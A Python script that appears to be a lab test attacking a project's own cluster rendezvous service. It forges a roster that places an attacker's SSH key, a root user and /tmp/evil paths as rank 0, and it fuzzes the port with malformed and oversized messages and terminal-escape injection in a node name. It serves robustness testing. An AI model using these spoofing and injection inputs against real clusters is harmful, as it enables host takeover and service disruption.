"""What somebody on the network can do who reaches the port of a waiting cluster: run as a script on a host of
the lab.

python strangers.py forge HOST PORT KEY              claim to be who makes the roster, and a node that is
there python strangers.py junk HOST PORT                   send what no node of ours would send
"""

from __future__ import annotations

import os
import socket
import sys
import time
from contextlib import suppress
from dataclasses import replace

from platform_launch.dist_launch.cluster import ClusterMember
from platform_launch.dist_launch.roster import PURPOSE, WaitRoster
from platform_launch.rendezvous.fingerprint import Fingerprint
from platform_launch.rendezvous.messages import decode, encode
from platform_launch.rendezvous.participant import hello_of
from platform_launch.rendezvous.protocol import Join, Publish, Welcome

NNODES = 2


def main() -> None:
    what, host, port, *rest = sys.argv[1:]
    if what == "forge":
        forge(host, int(port), rest[0])
    else:
        junk(host, int(port))


def connected(host: str, port: int, node: Fingerprint) -> socket.socket:
    """Return a connection on which the first lines were exchanged."""
    connection = socket.create_connection((host, port), 10)
    hello = replace(hello_of(node, PURPOSE, None, ""), nonce=os.urandom(16).hex())
    connection.sendall(encode(hello) + b"\n")
    decode(connection.makefile("rb").readline().rstrip(), Welcome)
    return connection


def member(rank: int, key: str) -> ClusterMember:
    return ClusterMember(
        rank=rank,
        host="evil",
        address="10.213.0.9",
        ssh_port=22,
        ssh_user="root",
        host_key=key,
        identity=f"evil {rank}",
        python="/tmp/evil",
        package="/tmp/evil",
        folder="/tmp/evil",
        public_key=key,
    )


def forge(host: str, port: int, key: str) -> None:
    """Join as each rank, and publish a roster in which this key is rank 0's, without end."""
    roster = WaitRoster(10**6, "now", (), (member(0, key), member(1, key)))
    count = 0
    while True:
        for rank in range(NNODES):
            node = Fingerprint(rank, NNODES, "evil", ("10.213.0.9",), f"evil {rank}", None)
            with suppress(OSError), connected(host, port, node) as connection:
                join = Join(node, os.urandom(8).hex(), 1, member(rank, key))
                for message in (join, Publish(roster)):
                    connection.sendall(b"- " + encode(message) + b"\n")
                time.sleep(0.2)
        count += 1
        print(f"forged {count}", flush=True)


def junk(host: str, port: int) -> None:
    node = Fingerprint(1, NNODES, "\x1b[2J\x1b]0;owned\x07stranger", ("10.0.0.9",), "me", None)
    good = encode(Join(node, "session", 1))
    lines = [
        b"- " + good.replace(b'"node_rank":1', b'"node_rank":[]'),
        b"- " + b"[" * 50_000,
        b"- " + good[:-3] + b"x" * (1 << 20),
        b"- \x00\x01",
        b"- " + encode(Join(replace(node, nnodes=7), "session 2", 1)),
        b"- " + encode(Join(replace(node, node_rank=-1), "session 3", 1)),
        b"- " + encode(Join(replace(node, node_rank=0, identity="another"), "session 4", 1)),
    ]
    for line in lines:
        with connected(host, port, node) as connection, suppress(OSError):
            connection.sendall(line + b"\n")
            connection.settimeout(10)
            while connection.recv(4096):
                pass
    with suppress(OSError), socket.create_connection((host, port), 10) as connection:
        connection.sendall(b"GET / HTTP/1.1\r\n\r\n")
        connection.recv(1)


main()
